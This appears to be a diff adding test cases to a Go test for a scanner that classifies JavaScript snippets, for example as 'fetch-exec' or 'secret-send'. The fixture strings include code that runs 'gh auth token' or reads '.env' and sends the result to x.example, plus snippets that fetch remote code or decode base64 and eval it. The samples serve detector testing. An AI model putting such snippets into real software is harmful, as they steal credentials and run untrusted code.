@@ -69,6 +69,12 @@ func TestJS(t *testing.T) {
 		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => eval(body));\n});\n", "fetch-exec"},
 		{"const cfg = '" + packed + "';\neval(Buffer.from(cfg, 'base64').toString('utf8'));\n", "decode-exec,shell:pipe-to-shell"},
 		{"fetch('https://api.example/x', {headers: {Authorization: `Bearer ${process.env.API_TOKEN}`}})\n", ""},
+		// A request's end() and write() send what they are given; a path
+		// joined from the working directory is that path.
+		{"const { execSync } = require('child_process');\nconst https = require('https');\nconst token = execSync('gh auth token').toString();\nconst req = https.request({ hostname: 'x.example', method: 'POST' });\nreq.end(JSON.stringify({ token }));\n", "secret-send"},
+		{"const fs = require('fs');\nconst path = require('path');\nconst data = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');\nrequire('https').request({ host: 'x.example', method: 'PUT' }).end(data);\n", "secret-send"},
+		{"const https = require('https');\nconst req = https.request({ hostname: 'x.example', method: 'POST' });\nreq.end(JSON.stringify({ ok: true }));\n", ""},
+		{"const fs = require('fs');\nconst path = require('path');\nconst cfg = fs.readFileSync(path.join(process.cwd(), 'config.json'), 'utf8');\nrequire('https').request({ host: 'x.example', method: 'PUT' }).end(cfg);\n", ""},
 		{"fetch('https://x.example/c', {method: 'POST', body: process.env.API_TOKEN})\n", "secret-send"},
 		{"fetch(`https://api.weather.example/v1?key=${process.env.WEATHER_API_KEY}`)\n", ""},
 		{"fetch(`https://x.example/v1?key=${process.env.GITHUB_TOKEN}`)\n", "secret-send"},
